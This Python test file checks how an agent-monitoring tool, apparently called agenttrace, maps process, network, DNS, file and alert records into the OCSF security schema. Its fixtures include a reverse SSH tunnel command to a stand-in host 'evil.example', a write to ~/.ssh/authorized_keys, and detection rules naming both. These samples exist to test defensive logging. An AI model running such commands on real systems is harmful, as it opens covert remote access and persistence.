"""OCSF rendering: what each record kind maps to, the mandatory base fields, and each class's
own required attributes. The check against the official schema is test_ocsf_schema.py."""
from __future__ import annotations

import copy

import pytest

from agenttrace.sinks.ocsf import OCSF_VERSION, to_ocsf
from agenttrace.timefmt import parse_ns

TS = "2026-11-27T07:00:00.123456789Z"
AGENT = {"id": "a1", "cgroup": "/agents/a1", "cgroup_id": 4242, "team": "rl"}
PROC = {"pid": 321, "ppid": 300, "uid": 1000, "comm": "bash", "exe": "/usr/bin/ssh",
        "args": ["ssh", "-R", "2222:localhost:22", "user@203.0.113.7"],
        "ancestry": [{"pid": 300, "comm": "python3", "exe": "/usr/bin/python3.11"},
                     {"pid": 1, "comm": "init", "exe": "/sbin/init"}]}
NET = {"proto": "tcp", "family": "ipv4", "src": {"addr": "10.0.0.5", "port": 40000},
       "dst": {"addr": "203.0.113.7", "port": 22, "scope": "external", "name": "evil.example"},
       "verdict": "blocked", "result": "blocked"}


def base(kind, **body):
    r = {"ts": TS, "kind": kind, "node": "gpu-node-1", "agent": dict(AGENT)}
    r.update(body)
    return r


MANDATORY = ("category_uid", "class_uid", "activity_id", "type_uid", "severity_id", "time", "metadata")


def check_base(ev, class_uid, category_uid):
    for k in MANDATORY:
        assert k in ev, k
    assert ev["class_uid"] == class_uid
    assert ev["category_uid"] == category_uid
    assert ev["type_uid"] == class_uid * 100 + ev["activity_id"]
    assert isinstance(ev["severity_id"], int) and 0 <= ev["severity_id"] <= 6
    assert ev["time"] == parse_ns(TS) // 1_000_000
    md = ev["metadata"]
    assert md["version"] == OCSF_VERSION and md["version"].startswith("1.")
    assert md["product"]["name"] == "agenttrace" and md["product"]["vendor_name"] and md["product"]["version"]
    assert md["version"] == "1.4.0"
    assert ev["unmapped"]["agent"]["id"] == "a1"


def test_exec_is_process_activity_launch():
    r = base("exec", proc=copy.deepcopy(PROC))
    ev = to_ocsf(r)
    check_base(ev, 1007, 1)
    assert ev["activity_id"] == 1 and ev["activity_name"] == "Launch"
    assert ev["severity_id"] == 1
    assert ev["device"]["hostname"] == "gpu-node-1"
    p = ev["process"]
    assert p["pid"] == 321 and p["file"]["path"] == "/usr/bin/ssh" and p["file"]["name"] == "ssh"
    assert p["cmd_line"] == "ssh -R 2222:localhost:22 user@203.0.113.7"
    assert p["parent_process"]["pid"] == 300 and p["user"]["uid"] == "1000"
    assert p["lineage"] == ["/usr/bin/python3.11", "/sbin/init"]
    assert ev["actor"]["process"]["pid"] == 300
    assert r == base("exec", proc=PROC)  # the record itself is untouched


def test_exit_is_process_activity_terminate():
    ev = to_ocsf(base("exit", proc=copy.deepcopy(PROC), exit_code=3, duration_ms=12))
    check_base(ev, 1007, 1)
    assert ev["activity_id"] == 2 and ev["exit_code"] == 3
    assert ev["actor"]["process"]["pid"] == 321 and "process" in ev and "device" in ev


@pytest.mark.parametrize("result,verdict,activity,action,disposition", [
    ("established", "allowed", 1, 1, 1),
    ("refused", "allowed", 5, 1, 1),
    ("error", "allowed", 4, 1, 1),
    ("blocked", "blocked", 5, 2, 2),
    ("sent", "allowed", 6, 1, 1),
])
def test_connect_is_network_activity(result, verdict, activity, action, disposition):
    net = dict(NET, result=result, verdict=verdict)
    ev = to_ocsf(base("connect", proc=PROC, net=net))
    check_base(ev, 4001, 4)
    assert ev["activity_id"] == activity
    assert ev["action_id"] == action and ev["disposition_id"] == disposition
    assert ev["src_endpoint"] == {"ip": "10.0.0.5", "port": 40000}
    assert ev["dst_endpoint"] == {"ip": "203.0.113.7", "port": 22, "hostname": "evil.example"}
    assert ev["connection_info"]["protocol_num"] == 6 and ev["connection_info"]["direction_id"] == 2
    assert ev["connection_info"]["protocol_ver_id"] == 4
    assert ev["unmapped"]["scope"] == "external"


def test_listen_and_flow_are_network_activity():
    ev = to_ocsf(base("listen", proc=PROC, net={"proto": "tcp", "local": {"addr": "0.0.0.0", "port": 8080}}))
    check_base(ev, 4001, 4)
    assert ev["activity_id"] == 7 and ev["dst_endpoint"]["port"] == 8080
    ev = to_ocsf(base("flow", proc=PROC, net=dict(NET, verdict="allowed", result="established"),
                      flow={"protocol": "tls", "detail": {"sni": "pool.example", "version": "TLS 1.3"}}))
    check_base(ev, 4001, 4)
    assert ev["activity_id"] == 6 and ev["app_name"] == "tls" and ev["tls"] == {"version": "TLS 1.3", "sni": "pool.example"}
    # tls.version is required by OCSF: a hello whose version is unknown keeps the SNI unmapped
    ev = to_ocsf(base("flow", proc=PROC, net=NET, flow={"protocol": "tls", "detail": {"sni": "pool.example"}}))
    assert "tls" not in ev and ev["unmapped"]["flow"]["detail"]["sni"] == "pool.example"


def test_dns_is_dns_activity():
    d = {"query": "pool.example", "qtype": "A", "server": {"addr": "10.0.0.53", "port": 53}}
    ev = to_ocsf(base("dns", proc=PROC, dns=d))
    check_base(ev, 4003, 4)
    assert ev["activity_id"] == 1 and ev["query"]["hostname"] == "pool.example" and ev["query"]["type"] == "A"
    assert ev["dst_endpoint"] == {"ip": "10.0.0.53", "port": 53}
    ev = to_ocsf(base("dns", proc=PROC, dns=dict(d, response=True, rcode="NOERROR", answers=["198.51.100.9"])))
    assert (ev["activity_id"], ev["activity_name"]) == (2, "Response") and ev["answers"] == [{"rdata": "198.51.100.9"}]
    assert (ev["rcode_id"], ev["rcode"]) == (0, "NoError")


def test_dns_nxdomain_is_a_response_with_its_rcode_and_the_client_endpoint():
    net = {"proto": "udp", "family": "ipv4", "src": {"addr": "10.0.0.5", "port": 5353},
           "dst": {"addr": "10.0.0.53", "port": 53}, "verdict": "allowed"}
    d = {"query": "nothing.example", "qtype": "A", "server": {"addr": "10.0.0.53", "port": 53},
         "response": True, "rcode": "NXDOMAIN", "direction": "ingress"}
    ev = to_ocsf(base("dns", proc=PROC, net=net, dns=d))
    assert ev["activity_id"] == 2 and (ev["rcode_id"], ev["rcode"]) == (3, "NXDomain")
    assert ev["src_endpoint"] == {"ip": "10.0.0.5", "port": 5353}
    assert ev["dst_endpoint"] == {"ip": "10.0.0.53", "port": 53}
    # names that are not host names (underscores, empty) stay unmapped, never half-valid
    ev = to_ocsf(base("dns", proc=PROC, net=net, dns=dict(d, query="_dmarc.example")))
    assert "query" not in ev and ev["unmapped"]["dns"]["query"] == "_dmarc.example"


@pytest.mark.parametrize("severity,sev_id", [("info", 1), ("low", 2), ("medium", 3), ("high", 4), ("critical", 5)])
def test_alert_is_detection_finding(severity, sev_id):
    rule = {"id": "tunnel.reverse_ssh", "category": "tunnel", "severity": severity, "action": "block",
            "outcome": "blocked", "tags": ["T1572", "T1021.004", "not-mitre"],
            "message": "reverse SSH tunnel to an external host"}
    ev = to_ocsf(base("alert", rule=rule, proc=PROC, net=NET))
    check_base(ev, 2004, 2)
    assert ev["activity_id"] == 1 and ev["severity_id"] == sev_id
    fi = ev["finding_info"]
    assert fi["uid"] and fi["title"] == "reverse SSH tunnel to an external host"
    assert fi["analytic"]["uid"] == "tunnel.reverse_ssh" and fi["types"] == ["tunnel"]
    assert [a["technique"]["uid"] for a in fi["attacks"]] == ["T1572", "T1021.004"]
    assert ev["disposition_id"] == 2 and ev["action_id"] == 2 and ev["is_alert"] is True
    assert ev["evidences"][0]["dst_endpoint"]["ip"] == "203.0.113.7"
    assert ev["evidences"][0]["process"]["pid"] == 321


def test_alert_outcomes():
    for outcome, action, disp in (("reported", 3, 15), ("blocked", 2, 2), ("killed", 2, 7),
                                  ("frozen", 2, 4), ("exited", 3, 16)):
        ev = to_ocsf(base("alert", rule={"id": "r", "severity": "high", "outcome": outcome}))
        assert (ev["action_id"], ev["disposition_id"]) == (action, disp), outcome
        assert "security_control" in ev["metadata"]["profiles"]


def test_finding_uid_is_unique_per_alert_and_stable_per_record():
    a = base("alert", rule={"id": "r", "severity": "high", "outcome": "reported"}, proc=PROC)
    b = dict(a, proc=dict(PROC, pid=322))    # same rule, agent and ts: another alert
    ua, ub = to_ocsf(a)["finding_info"]["uid"], to_ocsf(b)["finding_info"]["uid"]
    assert ua != ub and to_ocsf(copy.deepcopy(a))["finding_info"]["uid"] == ua


def test_kernel_killed_exec_is_a_denied_launch():
    ev = to_ocsf(base("exec", proc=dict(PROC, killed_in_kernel=True)))
    assert ev["activity_id"] == 1 and (ev["action_id"], ev["disposition_id"]) == (2, 2)
    ev = to_ocsf(base("exec", proc=PROC))
    assert "action_id" not in ev and "security_control" not in ev["metadata"]["profiles"]


def test_parent_process_is_the_parent_not_the_creator():
    # reparented to init after its creator (ancestry[0], pid 300) exited
    ev = to_ocsf(base("exec", proc=dict(PROC, ppid=1)))
    assert ev["process"]["parent_process"] == {"pid": 1}
    assert ev["process"]["lineage"][0] == "/usr/bin/python3.11"


@pytest.mark.parametrize("scope,bid", [("loopback", 1), ("internal", 2), ("external", 3), ("metadata", 99)])
def test_scope_is_the_connection_boundary(scope, bid):
    ev = to_ocsf(base("connect", proc=PROC, net=dict(NET, dst=dict(NET["dst"], scope=scope))))
    assert ev["connection_info"]["boundary_id"] == bid


def test_lifecycle_and_unmapped_kinds():
    ev = to_ocsf(base("lifecycle", phase="started", counters={"events": 0}))
    check_base(ev, 6002, 6)
    assert ev["activity_id"] == 3 and ev["app"]["name"] == "agenttrace"
    assert ev["unmapped"]["counters"] == {"events": 0}
    ev = to_ocsf(base("lifecycle", phase="stats"))
    assert (ev["activity_id"], ev["activity_name"], ev["type_name"]) == (99, "stats", "Application Lifecycle: Other")
    ev = to_ocsf(base("gpu", proc=PROC, gpu={"index": 0, "uuid": "GPU-1", "name": "H100",
                                               "used_memory_mib": 10, "sm_util_pct": 99}))
    check_base(ev, 0, 0)
    assert ev["activity_id"] == 99 and ev["unmapped"]["gpu"]["sm_util_pct"] == 99
    ev = to_ocsf(base("device", proc=PROC, device={"major": 195, "minor": 0, "access": "rw", "verdict": "blocked"}))
    check_base(ev, 0, 0)
    assert ev["unmapped"]["device"]["major"] == 195


def test_a_record_with_a_broken_ts_still_gets_a_time():
    ev = to_ocsf({"kind": "exec", "ts": "yesterday", "node": "n", "proc": PROC})
    assert isinstance(ev["time"], int) and ev["time"] > 0


@pytest.mark.parametrize("syscall,verdict,activity,action", [
    ("openat", "allowed", (14, "Open"), (1, "Allowed")),
    ("renameat2", "killed", (5, "Rename"), (2, "Denied")),
    ("linkat", "allowed", (1, "Create"), (1, "Allowed")),
])
def test_file_is_file_system_activity(syscall, verdict, activity, action):
    f = {"path": "/home/dev/.ssh/authorized_keys", "raw_path": "authorized_keys", "op": "write",
         "syscall": syscall, "flags": [], "class": "authorized_keys", "verdict": verdict}
    ev = to_ocsf(base("file", proc=copy.deepcopy(PROC), file=f))
    check_base(ev, 1001, 1)
    assert (ev["activity_id"], ev["activity_name"]) == activity
    assert (ev["action_id"], ev["action"]) == action
    assert ev["file"] == {"name": "authorized_keys", "path": "/home/dev/.ssh/authorized_keys",
                          "type_id": 0, "type": "Unknown"}
    assert ev["actor"] and ev["device"] and ev["unmapped"]["file"]["class"] == "authorized_keys"
    al = to_ocsf(base("alert", proc=copy.deepcopy(PROC), file=f, trigger="file",
                      rule={"id": "ssh-authorized-keys-write", "category": "tunnel", "severity": "critical",
                            "action": "kill", "outcome": "killed", "tags": ["T1098.004"], "message": "m"}))
    assert al["evidences"][0]["file"]["path"] == "/home/dev/.ssh/authorized_keys"
